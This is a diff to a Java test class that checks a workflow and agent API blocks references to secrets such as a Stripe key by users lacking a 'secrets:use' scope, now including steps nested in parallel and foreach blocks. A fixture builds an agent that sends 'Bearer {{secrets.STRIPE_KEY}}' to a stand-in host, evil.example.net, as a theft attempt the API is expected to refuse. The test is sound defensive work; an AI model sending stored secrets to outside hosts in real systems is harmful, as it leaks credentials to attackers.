@@ -55,6 +55,11 @@ class SecretUseTest {
       assertTrue(refused.get("detail").asText().contains("{{secrets.STRIPE_KEY}}"), refused::toString);
       assertTrue(refused.get("detail").asText().contains("secrets:use"), refused::toString);
       assertProblem(put(http, "/v1/workflows/steal", writer, query), 403, "insufficient_scope", "steps[0].url");
+      // Steps inside foreach and parallel steps are looked at too.
+      String nested = "{\"steps\":[{\"type\":\"parallel\",\"branches\":[[],[{\"type\":\"foreach\",\"items\":\"[1]\","
+          + "\"steps\":" + header.substring(header.indexOf('['), header.lastIndexOf(']') + 1) + "}]]}]}";
+      assertProblem(put(http, "/v1/workflows/steal", writer, nested), 403, "insufficient_scope",
+          "steps[0].branches[1][0].steps[0].headers.X");
       assertProblem(put(http, "/v1/agents/steal", writer, agent("https://evil.example.net/t",
           "{\"Authorization\":\"Bearer {{secrets.STRIPE_KEY}}\"}")), 403, "insufficient_scope",
           "tools[0].headers.Authorization");
